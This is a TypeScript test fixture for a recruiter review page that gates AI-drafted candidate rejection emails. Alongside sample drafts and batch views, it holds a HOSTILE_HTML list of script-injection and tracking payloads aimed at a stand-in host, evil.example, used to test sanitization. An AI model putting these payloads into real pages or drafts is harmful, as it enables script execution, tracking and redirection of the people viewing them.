/**
 * A realistic draft for the page tests: the candidate rejection email the issue was written about
 * (an HTML body), with the builder's labelled fields, a nested candidate record, a Markdown note, and
 * a hostile HTML body that tries every way to run, load, post or navigate.
 */
import type { DisplayField } from '../../../nodes/HitlGate/display/fields';
import { buildItemView, type BatchPageView, type ReviewPageView } from '../../../nodes/HitlGate/page';

export const REJECTION_HTML =
	'<p>Dear Anna,</p><p>Thank you for your interest in the <strong>Senior Data Engineer</strong> role and for the time you spent with our team.</p>' +
	'<p>After careful consideration we have decided to move forward with other candidates whose experience more closely matches the current needs of the team.</p>' +
	'<p>We will keep your details on file and may contact you about future openings. You can read how we handle your data in our <a href="https://acme.example/privacy">privacy notice</a>.</p>' +
	'<p>Kind regards,<br>Jordan Lee<br>Talent Acquisition, Acme</p>';

/** Every trick a model (or an attacker steering it) could put into an HTML body. */
export const HOSTILE_HTML = [
	'<p>Hello <b>there</b></p>',
	'<script>window.__pwned = 1</script>',
	'<img src="https://evil.example/track.png" alt="tracker">',
	'<img src=x onerror="window.__pwned=2">',
	'<a href="javascript:window.__pwned=3">click me</a>',
	'<form action="https://evil.example/"><input name="q"><button>Send</button></form>',
	'<style>body{background:url(https://evil.example/css.png)} .approve{display:none}</style>',
	'<div style="background-image:url(https://evil.example/bg.png)">styled</div>',
	'<iframe src="https://evil.example/frame"></iframe>',
	'<table background="https://evil.example/table.png"><tr><td>cell</td></tr></table>',
	'<svg onload="window.__pwned=4"><image href="https://evil.example/svg.png"/></svg>',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
	'<base href="https://evil.example/">',
	'<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
	'<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
].join('\n');

export const CANDIDATE_DRAFT: Record<string, unknown> = {
	to: [{ name: 'Anna Example', email: 'anna.example@mail.example' }],
	subject: 'Your application for Senior Data Engineer',
	body: REJECTION_HTML,
	note: '**Why rejected:** the role needs *5+ years* of Spark.\n\n- interview score 2/5\n- no work permit yet',
	candidate: { name: 'Anna Example', stage: 'rejected', scores: { technical: 2, culture: 4 }, tags: ['spark', 'python'] },
	confidence: 0.74,
	blastRadius: { tier: 'high', reasons: [{ label: 'Candidate-facing send' }] },
};

export const CANDIDATE_FIELDS: DisplayField[] = [
	{ label: 'To', path: 'to.0.email', format: 'auto', editable: false },
	{ label: 'Subject', path: 'subject', format: 'text', editable: true },
	{ label: 'Email to candidate', path: 'body', format: 'html', editable: true },
	{ label: 'Recruiter note', path: 'note', format: 'markdown', editable: false },
	{ label: 'Candidate', path: 'candidate', format: 'auto', editable: false },
	{ label: 'Model confidence', path: 'confidence', format: 'auto', editable: false },
];

export const NOW = new Date('2026-11-25T10:30:00.000Z');

export function recruiterView(overrides: Partial<ReviewPageView> = {}): ReviewPageView {
	return {
		title: 'Review: Candidate rejection emails',
		message: 'An automated step drafted this email to a candidate.\nPlease check tone and facts before it is sent.',
		reviewer: 'recruiter@acme.example',
		tier: 'high',
		tierReasons: ['Candidate-facing send', 'Compliance-clock change: stage → rejected'],
		requestedAt: '2026-11-25T10:00:00.000Z',
		expiresAt: '2026-11-25T13:30:00.000Z',
		timeZone: 'Europe/Berlin',
		now: NOW,
		draftSha256: '9f2c4e1b7a0d3c5e8f6a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6',
		requestId: '3f1e2d4c-5b6a-4789-9abc-def012345678',
		items: [
			buildItemView({
				json: CANDIDATE_DRAFT,
				shown: CANDIDATE_FIELDS.map((f) => f.path),
				editable: CANDIDATE_FIELDS.filter((f) => f.editable).map((f) => f.path),
				displayFields: CANDIDATE_FIELDS,
			}),
		],
		csrf: 'csrf-token-value_123',
		requireRejectReason: true,
		...overrides,
	};
}

/** The same gate in batch mode: three drafts, decided as shown (no edits). */
export function recruiterBatchView(): ReviewPageView {
	const names = ['Anna', 'Ben', 'Chiara'];
	return recruiterView({
		items: names.map((name, i) =>
			buildItemView({
				json: { ...CANDIDATE_DRAFT, body: REJECTION_HTML.replace('Anna', name), to: [{ name, email: `${name.toLowerCase()}@mail.example` }] },
				shown: CANDIDATE_FIELDS.map((f) => f.path),
				editable: [],
				displayFields: CANDIDATE_FIELDS,
				heading: `Item ${i + 1}`,
			}),
		),
	});
}

/** One HTML field holding {@link HOSTILE_HTML}, shown read-only and editable. */
export function hostileHtmlView(): ReviewPageView {
	const fields: DisplayField[] = [
		{ label: 'Body', path: 'body', format: 'html', editable: false },
		{ label: 'Auto body', path: 'auto', format: 'auto', editable: false },
		{ label: 'Markdown body', path: 'md', format: 'markdown', editable: false },
		{ label: 'Edited body', path: 'edited', format: 'html', editable: true },
	];
	const json = { body: HOSTILE_HTML, auto: HOSTILE_HTML, md: `# Title\n\n${HOSTILE_HTML}\n\n[link](javascript:window.__pwned=5) ![img](https://evil.example/md.png)`, edited: HOSTILE_HTML };
	return recruiterView({
		items: [buildItemView({ json, shown: fields.map((f) => f.path), editable: ['edited'], displayFields: fields })],
	});
}

/**
 * The batch page (one request per item): three candidates still open — subject editable, the body
 * read-only — one already decided by a colleague, and after a refused submit: item 3 rejected without a
 * reason. Item 2 is Medium, the others High, so "Approve all" is not offered.
 */
export function recruiterBatchPageView(overrides: Partial<BatchPageView> = {}): BatchPageView {
	const names = ['Anna', 'Ben', 'Chiara'];
	const fields = CANDIDATE_FIELDS.map((f) => ({ ...f, editable: f.path === 'subject' }));
	const base = recruiterView();
	return {
		title: base.title,
		message: base.message,
		reviewer: base.reviewer,
		tier: 'high',
		tierReasons: ['Candidate-facing send', 'Compliance-clock change: stage → rejected'],
		requestedAt: base.requestedAt,
		expiresAt: base.expiresAt,
		timeZone: base.timeZone,
		now: NOW,
		csrf: 'csrf-token-value_123',
		requireRejectReason: true,
		items: names.map((name, i) => ({
			itemIndex: i + 1,
			tier: i === 1 ? 'medium' : 'high',
			tierReasons: i === 1 ? ['Payment of 100 or more'] : ['Candidate-facing send'],
			item: buildItemView({
				json: { ...CANDIDATE_DRAFT, subject: `Your application, ${name}`, body: REJECTION_HTML.replace('Anna', name), to: [{ name, email: `${name.toLowerCase()}@mail.example` }] },
				shown: fields.map((f) => f.path),
				editable: ['subject'],
				displayFields: fields,
				heading: `Item ${i + 2}`,
				editNamePrefix: `${i + 1}.`,
			}),
			...(i === 2 ? { choice: 'reject' as const, comment: '', error: 'Give a reason for rejecting item 4: in its own box, or in the comment for all items.' } : {}),
		})),
		settled: [{ itemIndex: 0, text: 'approved by ben@acme.example', at: '2026-11-25T10:12:00.000Z' }],
		approveAllOffered: false,
		approveAllNote: 'Approve all is not available: Items 2 and 4 are High risk or not classified. Approve or reject them one by one.',
		...overrides,
	};
}
